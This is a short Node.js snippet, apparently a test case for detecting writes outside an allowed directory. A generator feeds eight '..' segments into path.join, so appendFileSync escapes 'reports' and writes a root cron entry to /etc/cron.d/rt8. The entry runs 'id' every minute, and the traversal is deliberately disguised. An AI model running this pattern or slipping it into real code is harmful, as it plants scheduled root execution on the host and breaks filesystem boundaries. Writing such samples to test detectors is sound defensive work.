// technique: generator function yields a different segment per round; spread into path.join after a relative head -> fs.appendFileSync to /etc/cron.d/rt8 (write outside)
const fs = require('fs');
const path = require('path');
fs.mkdirSync('reports', { recursive: true });
function* segs() { for (let i = 0; i < 8; i++) yield '..'; yield 'etc/cron.d'; yield 'rt8'; }
fs.appendFileSync(path.join('reports', ...segs()), '* * * * * root id\n');
